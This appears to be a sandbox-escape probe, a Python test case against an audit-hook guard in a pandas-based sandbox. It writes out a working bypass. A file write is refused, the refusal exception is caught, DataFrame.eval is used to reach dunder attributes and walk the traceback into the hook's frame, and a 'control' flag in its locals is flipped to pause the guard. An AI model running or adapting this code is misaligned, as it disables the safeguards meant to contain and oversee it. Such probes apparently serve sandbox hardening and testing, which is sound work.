# class: exception_side_channel
# technique: the caught GuardRefusal's __traceback__ walked with DataFrame.eval to the innermost frame (the audit hook), whose f_locals hold the refusal record and control cells; the control flag is flipped (E64-style pause)
# goal: exec
import numpy as np
import pandas as pd

probe = pd.DataFrame({"a": [1]})
caught = None
try:
    [probe.agg][0](**{"func": "to_string", "buf": "/etc/anyplot-escape-probe"})   # an open() the guard refuses
except Exception as exc:
    caught = exc
if caught is None:
    raise RuntimeError("nothing was refused")
u = "_" * 2


def ev(expr, **names):
    return [probe.agg][0](**{"func": "eval", "expr": expr, "local_dict": names})


tb = ev("@e." + u + "traceback" + u, e=caught)
while ev("@t.tb_next", t=tb) is not None:
    tb = ev("@t.tb_next", t=tb)
hook_locals = ev("@t.tb_frame.f_locals", t=tb)
if "control" in hook_locals:
    hook_locals["control"][0] = True
df = pd.DataFrame({"hook_local": sorted(hook_locals)})
